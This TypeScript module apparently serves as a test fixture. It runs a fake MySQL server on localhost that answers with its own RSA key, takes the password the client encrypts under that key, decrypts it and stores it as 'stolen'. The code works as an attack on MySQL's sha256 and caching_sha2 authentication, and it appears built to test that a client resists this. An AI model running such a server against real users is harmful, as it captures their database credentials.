/** A server that answers in the place of the real one, to get the password: it asks for it, encrypted with a key of its own. */
import * as Effect from "effect/Effect"
import type * as Scope from "effect/Scope"
import { constants, generateKeyPairSync, privateDecrypt, randomBytes } from "node:crypto"
import { type AddressInfo, createServer, type Socket } from "node:net"

export interface KeyThief {
  readonly port: number
  /** The passwords that it was sent. */
  readonly stolen: ReadonlyArray<string>
  /** How often it was asked for its key. */
  readonly asked: () => number
}

/** The ways in which MySQL's protocol lets a server ask for the password itself. */
export type Way = "caching_sha2_password" | "sha256_password"

export const keyThief = (way: Way): Effect.Effect<KeyThief, never, Scope.Scope> =>
  Effect.map(
    Effect.acquireRelease(
      Effect.promise(() => start(way)),
      ({ close }) => Effect.promise(close)
    ),
    ({ thief }) => thief
  )

const start = async (way: Way) => {
  const { privateKey, publicKey } = generateKeyPairSync("rsa", { modulusLength: 2048 })
  const pem = publicKey.export({ type: "spki", format: "pem" })
  const scramble = Buffer.from(randomBytes(20).map((byte) => byte % 100 + 1))
  const stolen: Array<string> = []
  let asked = 0

  const serve = (client: Socket): void => {
    // Each answer of the client leads to the next step.
    const steps: Array<(answer: Buffer) => Buffer | undefined> = [
      () => Buffer.concat([Buffer.from([0xfe]), Buffer.from(`${way}\0`), scramble, Buffer.from([0])]),
      ...(way === "caching_sha2_password" ? [() => Buffer.from([1, 4])] : []),
      (answer) => {
        if (answer.length === 1) asked++
        return Buffer.concat([Buffer.from([1]), Buffer.from(pem)])
      },
      (answer) => {
        const mixed = privateDecrypt({ key: privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING }, answer)
        stolen.push(String(mixed.map((byte, index) => byte ^ scramble[index % scramble.length]!).subarray(0, -1)))
        client.end()
        return undefined
      }
    ]
    const send = (sequence: number, payload: Buffer): void => {
      const header = Buffer.alloc(4)
      header.writeUIntLE(payload.length, 0, 3)
      header[3] = sequence
      client.write(Buffer.concat([header, payload]))
    }
    client.on("error", () => {})
    client.on("data", (packet) => {
      const answer = steps.shift()?.(packet.subarray(4))
      if (answer !== undefined) send(packet[3]! + 1, answer)
    })
    send(0, greeting(scramble))
  }

  const listener = createServer(serve)
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve))
  return {
    thief: { port: (listener.address() as AddressInfo).port, stolen, asked: () => asked } satisfies KeyThief,
    close: () => new Promise<void>((resolve) => listener.close(() => resolve()))
  }
}

/** The protocol's HandshakeV10, of a server without TLS. */
const greeting = (scramble: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from("\x0a9.7.4\0"),
    Buffer.from([7, 0, 0, 0]),
    scramble.subarray(0, 8),
    // 0, the low flags without compression and TLS, utf8mb4, autocommit, the high flags with PLUGIN_AUTH, a length.
    Buffer.from([0, 0xdf, 0xf7, 45, 2, 0, 0x08, 0, 21]),
    Buffer.alloc(10),
    scramble.subarray(8),
    Buffer.from("\0caching_sha2_password\0")
  ])
